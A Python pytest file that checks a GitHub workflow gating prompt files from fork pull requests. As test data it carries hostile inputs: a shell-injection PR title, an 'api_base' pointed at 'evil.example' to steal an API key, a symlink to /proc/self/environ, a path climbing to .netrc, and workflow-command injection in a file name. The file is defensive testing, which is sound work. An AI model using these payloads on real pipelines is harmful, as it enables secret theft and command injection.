"""gate-fork.yml from event to end: a fork's prompt files gated by the default branch's own rules."""

from __future__ import annotations

from typing import Any

import pytest

from conftest import QA
from workflows.changes import BETTER, WRONG
from workflows.runner import events
from workflows.runner.github import GitHub
from workflows.runner.model import PullRequest
from workflows.runner.repository import link, submodule
from workflows.runner.results import Result, unused_permissions

V3 = "prompts/qa/v3.prompt.yml"
TITLE = 'x"; echo INJECTED $(id) `id` #'


@pytest.fixture
def reviewed(github: GitHub) -> GitHub:
    """With the environment for forks, which waits for a review."""
    github.environment("prompt-eval-fork", secrets={"OPENAI_API_KEY": "sk-secret"}, reviewers=("ada",))
    return github


def propose(github: GitHub, files: Any) -> PullRequest:
    if any(".." in path or "\n" in path for path in files):
        raw(github, files)
    else:
        github.commit_to_fork(files, by="eve")
    return github.open_pull_request("idea", by="eve", fork=True, title=TITLE)


def raw(github: GitHub, files: dict[str, str]) -> None:
    """Push paths that Git itself would not write: trees made entry by entry."""
    github.commit_to_fork(BETTER, by="eve")
    git, ref = github.repository.git, "refs/forks/eve/idea"
    for path, text in files.items():
        parts = path.split("/")
        made = git("hash-object", "-w", "--stdin", data=text.encode()).strip()
        mode = b"100644 blob"
        while parts:
            parent = "/".join(parts[:-1])
            there = b"" if ".." in parts[:-1] else git("ls-tree", "-z", f"{ref}:{parent}")
            entry = b"%s %s\t%s\0" % (mode, made, parts.pop().encode())
            made, mode = git("mktree", "-z", data=there + entry).strip(), b"040000 tree"
        head = github.repository.line("rev-parse", ref)
        sha = github.repository.commit_tree(made.decode(), [head], "Climb", "eve")
        git("update-ref", ref, sha)
    github.refresh()


def start(github: GitHub, run_workflow: Any, pull: PullRequest, sha: str = "") -> Result:
    inputs = {"pull_request": str(pull.number), "sha": sha or pull.head_sha}
    result = run_workflow("gate-fork.yml", events.workflow_dispatch(github, inputs))
    if result.waiting:
        result.approve("prompt-eval-fork", by="ada")
    found: Result = result
    return found


def statuses(github: GitHub) -> list[tuple[str, str, str]]:
    found = github.statuses.values() if isinstance(github.statuses, dict) else github.statuses
    return [(item.sha, item.context, item.state) for item in found]


@pytest.mark.parametrize(("files", "state"), [(BETTER, "success"), (WRONG, "failure")])
def test_the_verdict_is_a_status_on_that_commit(
    reviewed: GitHub, run_workflow: Any, files: Any, state: str
) -> None:
    pull = propose(reviewed, files)
    result = start(reviewed, run_workflow, pull)
    assert result.job("gate").conclusion == ("success" if state == "success" else "failure"), result.explain()
    assert statuses(reviewed) == [(pull.head_sha, "cuebook gate-fork", state)]
    assert reviewed.repository.refs("refs/heads/cuebook-data")
    assert "INJECTED" not in result.log
    assert "sk-secret" not in result.log
    assert unused_permissions(result) == {}


def test_nothing_runs_before_the_review(reviewed: GitHub, run_workflow: Any) -> None:
    pull = propose(reviewed, BETTER)
    inputs = {"pull_request": str(pull.number), "sha": pull.head_sha}
    result = run_workflow("gate-fork.yml", events.workflow_dispatch(reviewed, inputs))
    assert (result.conclusion, statuses(reviewed)) == ("waiting", [])


STEALS = QA["prompts/qa/v2.prompt.yml"] + "modelParameters: {api_base: 'https://evil.example'}\n"
HOSTILE: dict[str, tuple[dict[str, Any], str]] = {
    "changed workflow": ({**BETTER, ".github/workflows/gate-fork.yml": "on: push"}, "may not touch it"),
    "changed threshold": ({**BETTER, "evals/qa/suite.yml": "gate: {}"}, "may not touch it"),
    "api_base in a version": ({V3: STEALS}, "api_base"),
    "symlink to a secret": ({V3: link("/proc/self/environ")}, "a symbolic link"),
    "submodule": ({"prompts/qa/sub": submodule("a" * 40)}, "a submodule"),
    "a file of 100 MB": ({V3: b"#" * (100 << 20)}, "it has 104,857,600 bytes; the limit is"),
    "not UTF-8": ({V3: b"\xff\xfe"}, "UTF-8"),
    "path that climbs out": (
        {"prompts/../../../home/runner/.netrc": "x"},
        "a contribution may not touch it",
    ),
    "link that climbs out": ({"prompts/qa": None, "prompts/qb": link("../../..")}, "a symbolic link"),
    "name that is a command": (
        {"::stop-commands::x\n::error::pwned": "x"},
        "a contribution may not touch it",
    ),
    "an alias moved": ({"prompts/qa/aliases.yml": "production: 2\n"}, "may not touch it"),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_pull_request_is_refused(reviewed: GitHub, run_workflow: Any, name: str) -> None:
    files, said = HOSTILE[name]
    pull = propose(reviewed, files)
    result = start(reviewed, run_workflow, pull)
    assert result.job("gate").conclusion == "failure"
    assert said in result.log
    assert "pwned" not in [item.message for item in result.annotations]
    fetched = [item.path for item in result.requests if "/git/blobs/" in item.path]
    assert bool(fetched) is (name in {"api_base in a version", "not UTF-8"})
    assert statuses(reviewed) == [(pull.head_sha, "cuebook gate-fork", "error")]
    assert result.job("keep").conclusion == "skipped"


def test_a_force_push_after_the_approval_is_refused(reviewed: GitHub, run_workflow: Any) -> None:
    pull = propose(reviewed, BETTER)
    read = pull.head_sha
    inputs = {"pull_request": str(pull.number), "sha": read}
    result = run_workflow("gate-fork.yml", events.workflow_dispatch(reviewed, inputs))
    reviewed.commit_to_fork(WRONG, by="eve")
    result.approve("prompt-eval-fork", by="ada")
    assert result.job("gate").conclusion == "failure"
    assert "has moved on" in result.log
    assert statuses(reviewed) == [(read, "cuebook gate-fork", "error")]


@pytest.mark.parametrize("sha", ["abc1234", "main", "$(id)", "--help"])
def test_what_is_no_whole_sha_is_refused(reviewed: GitHub, run_workflow: Any, sha: str) -> None:
    result = start(reviewed, run_workflow, propose(reviewed, BETTER), sha)
    assert result.conclusion == "failure"
    assert statuses(reviewed) == []


def test_only_people_who_may_write_can_start_it(reviewed: GitHub) -> None:
    with pytest.raises(PermissionError):
        events.workflow_dispatch(reviewed, {"pull_request": "1", "sha": "a" * 40}, by="eve")
